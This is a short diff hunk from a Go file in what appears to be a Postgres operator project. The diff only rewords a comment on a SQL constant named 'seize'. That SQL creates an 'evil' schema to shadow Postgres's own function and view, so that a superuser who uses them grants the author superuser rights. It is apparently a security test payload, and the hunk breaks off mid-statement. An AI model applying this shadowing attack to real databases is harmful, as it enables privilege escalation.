@@ -17,8 +17,8 @@ import (
 	"github.com/pgstorage/pgstorage/internal/kube/naming"
 )
 
-// seize puts a function and a view of its own before Postgres' own, in the database that
-// the script owns. Whoever uses them with a superuser's rights makes the author one.
+// seize puts a function and a view of its own before those of Postgres, in the database that
+// the script owns. A superuser who uses them makes the author a superuser.
 const seize = `CREATE SCHEMA IF NOT EXISTS evil;
 GRANT USAGE ON SCHEMA evil TO PUBLIC;
 DO $do$ BEGIN
